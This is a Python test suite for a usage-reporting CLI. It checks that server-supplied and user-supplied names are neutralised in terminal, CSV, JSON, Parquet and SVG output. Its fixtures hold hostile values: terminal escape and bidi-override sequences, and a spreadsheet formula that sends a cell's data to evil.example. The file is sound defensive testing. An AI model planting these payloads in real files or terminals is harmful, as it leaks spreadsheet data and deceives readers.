"""Names from outside reach no terminal, spreadsheet or picture as commands."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest

from headcount.cli.reading.writers import row_writer
from support.program import PROGRAM, Program, environment, program_with_source
from support.scripted_api import Scripted, scripted

SCREEN = "\x1b[2J\x1b]0;owned\x07\u202e"
HARMLESS = "\\x1b[2J\\x1b]0;owned\\x07\\u202e"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DAY = "2026-01-02T00:00:00.000Z"


def formula_like() -> Iterator[str]:
    for mark in "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b":
        for before in (
            "",
            " ",
            "  ",
            "\r\n",
            '"',
            "'",
            ' "',
            "\xa0",
            "\u3000",
            "\t",
            "\r",
            "\n",
            "\ufeff",
        ):
            yield f"{before}{mark}1+1"
    yield from ("\tx", "\rx", "\nx")


@pytest.mark.parametrize("name", list(formula_like()))
def test_no_text_cell_begins_a_formula(name: str) -> None:
    stream = io.BytesIO()
    writer = row_writer("csv", ("source_name", "mtu"), stream)
    writer.write([{"source_name": name, "mtu": -3}])
    writer.close()
    [row] = csv.DictReader(io.StringIO(stream.getvalue().decode(), newline=""))
    assert row == {"source_name": f"'{name}", "mtu": "-3"}


@pytest.mark.parametrize("name", ["web", "a=b", "1-2", "'quoted'", '"quoted"', "店", "x@y"])
def test_other_text_stays_as_it_is(name: str) -> None:
    stream = io.BytesIO()
    row_writer("csv", ("source_name",), stream).write([{"source_name": name}])
    [_, row] = csv.reader(io.StringIO(stream.getvalue().decode()))
    assert row == [name]


def page(key: str, *rows: dict[str, Any]) -> list[tuple[int, Any]]:
    return [(200, {key: list(rows), "pagination": {"current": "x"}})]


@pytest.fixture
def hostile() -> Iterator[Scripted]:
    """A server whose sources are named to harm whoever reads about them."""
    sources = {"s1": f"{SCREEN}web", "s2": FORMULA}
    outcomes = {"accepted": 1, "duplicate": 0, "rejectedByReason": {SCREEN: 2}}
    told = [
        {"sourceId": each, "sourceName": name, "outcomes": outcomes}
        for each, name in sources.items()
    ]
    begun = {"period": "2026-01-01", "countedUntil": DAY, "sources": []}
    with scripted(
        {
            "/usage/api-calls/sources/daily": page(
                "dailyPerSourceAPICallsUsage",
                *({"sourceId": each, "apiCalls": "7", "timestamp": DAY} for each in sources),
            ),
            "/usage/api-calls/daily": page(
                "dailyWorkspaceAPICallsUsage", {"apiCalls": "14", "timestamp": DAY}
            ),
            "/headcount/v1/sources": [
                (200, {"sources": [{"id": each, "name": name} for each, name in sources.items()]})
            ],
            "/headcount/v1/outcomes": [(200, begun), (200, {**begun, "sources": told})],
        }
    ) as server:
        yield server


def of_sources(command: str, *more: str) -> tuple[str, ...]:
    month = ("--from", "2026-01", "--to", "2026-01") if command == "export" else ()
    month = month or ("--period", "2026-01")
    return (command, *month, "--by", "source", "--metric", "api-calls", *more)


def test_sources_of_another_server(tmp_path: Path, hostile: Scripted) -> None:
    program = Program(tmp_path / "data", tmp_path)

    def said(*arguments: str) -> str:
        done = program.run(*arguments, "--host", hostile.url, HEADCOUNT_TOKEN="hct_token")
        assert done.returncode == 0, done.stderr
        assert SCREEN not in done.stderr
        return done.stdout

    table = said(*of_sources("usage"))
    assert f"{HARMLESS}web" in table
    assert "\x1b" not in table
    assert FORMULA in table
    for command in (of_sources("usage", "--format", "csv"), of_sources("export")):
        rows = list(csv.DictReader(io.StringIO(said(*command))))
        assert [row["source_name"] for row in rows] == [f"{SCREEN}web", f"'{FORMULA}"]
        assert [row["api_calls"] for row in rows] == ["7", "7"]
    rows = json.loads(said(*of_sources("export", "--json")))
    assert [row["sourceName"] for row in rows] == [f"{SCREEN}web", FORMULA]
    said(*of_sources("export", "x.parquet"))
    names = pyarrow.parquet.read_table(tmp_path / "x.parquet")["source_name"].to_pylist()
    assert names == [f"{SCREEN}web", FORMULA]
    said(*of_sources("usage", "--plot", "x.svg"))
    drawn = (tmp_path / "x.svg").read_text()
    assert "\x1b" not in drawn
    assert "\u202e" not in drawn


def test_a_terminal_gets_no_more_than_a_pipe(tmp_path: Path, hostile: Scripted) -> None:
    ours, theirs = pty.openpty()
    shown = b""
    with subprocess.Popen(
        [*PROGRAM, *of_sources("usage", "--host", hostile.url)],
        stdout=theirs, stderr=theirs, cwd=tmp_path,
        env=environment(HEADCOUNT_TOKEN="hct_token", TERM="xterm", COLUMNS="200"),
    ) as running:  # fmt: skip
        os.close(theirs)
        while piece := _read(ours):
            shown += piece
        assert running.wait() == 0
    os.close(ours)
    assert HARMLESS.encode() in shown
    assert b"\x1b[2J" not in shown
    assert b"\x1b]0;" not in shown
    assert "\u202e".encode() not in shown


def _read(terminal: int) -> bytes:
    try:
        return os.read(terminal, 65536)
    except OSError:
        return b""  # everybody has closed it


def test_outcomes_as_they_come(tmp_path: Path, hostile: Scripted) -> None:
    command = ("tail", "--host", hostile.url, "--token-file", "token")
    (tmp_path / "token").write_text("hct_token")
    with subprocess.Popen(
        [*PROGRAM, *command], stdout=subprocess.PIPE, cwd=tmp_path, env=environment(), text=True
    ) as running:
        assert running.stdout is not None
        lines = [running.stdout.readline() for _ in range(2)]
        running.terminate()
    assert lines[0] == f"00:00:00  {HARMLESS}web  accepted +1  rejected {HARMLESS} +2\n"


def test_what_another_server_says_of_an_error(tmp_path: Path) -> None:
    program = Program(tmp_path / "data", tmp_path)
    with scripted({}) as server:
        server.answer = lambda target: (  # type: ignore[method-assign]
            429, json.dumps({"errors": [{"type": "x", "message": f"{SCREEN}wait"}]}).encode()
        )  # fmt: skip
        done = program.run("usage", "--host", server.url, HEADCOUNT_TOKEN="hct_token")
    assert done.returncode == 1
    assert f"{HARMLESS}wait" in done.stderr
    assert SCREEN not in done.stderr


def test_names_of_files_and_of_options(tmp_path: Path) -> None:
    program = program_with_source(tmp_path)
    file = tmp_path / f"{SCREEN}.ndjson"
    for text, place in (("{}\nno JSON\n", ":2: "), ("no JSON\n", ": is not taken: ")):
        file.write_text(text)
        done = program.run("import", file.name, "--workspace", "Shop")
        assert f"{HARMLESS}.ndjson{place}" in done.stderr
    for arguments in (
        ("import", f"{SCREEN}\nError: more", "--workspace", "Shop"),
        ("usage", f"--{SCREEN}"),
        ("doctor", "--data", SCREEN),
        ("source", "add", SCREEN, "--workspace", SCREEN),
        ("export", "--from", "2026-01", f"x.{SCREEN}"),
        ("backup", f"{tmp_path}/data/{SCREEN}"),
    ):
        done = program.run(*arguments)
        assert done.returncode != 0
        assert "\x1b" not in done.stdout + done.stderr
        assert "\u202e" not in done.stdout + done.stderr
        assert "\nError: more" not in done.stderr


@pytest.mark.parametrize(
    "ending",
    ["xlsx", "XLS", "ods", "tsv", "feather", "pdf", "html", "txt", "csv.gz", "db", "json5"],
)
def test_an_export_is_not_written_under_anothers_ending(tmp_path: Path, ending: str) -> None:
    program = Program(tmp_path / "data", tmp_path)
    done = program.run(
        "export", "--from", "2026-01", f"usage.{ending}", HEADCOUNT_TOKEN="hct_token"
    )
    assert (done.returncode, done.stdout) == (2, "")
    [line] = done.stderr.splitlines()
    assert f'"usage.{ending}"' in line
    assert ".json, .ndjson, .csv, .parquet" in line
    assert "--format" in line
    assert list(tmp_path.iterdir()) == []


def test_a_format_that_is_named_goes_before_the_ending(tmp_path: Path, hostile: Scripted) -> None:
    program = Program(tmp_path / "data", tmp_path)
    for name, more in (("a.txt", ("--format", "csv")), ("b.tsv", ("--json",)), ("c", ())):
        done = program.run(
            *of_sources("export", name, *more, "--host", hostile.url), HEADCOUNT_TOKEN="hct_token"
        )
        assert done.returncode == 0, done.stderr
        assert (tmp_path / name).read_text().startswith("[" if more == ("--json",) else "day,")
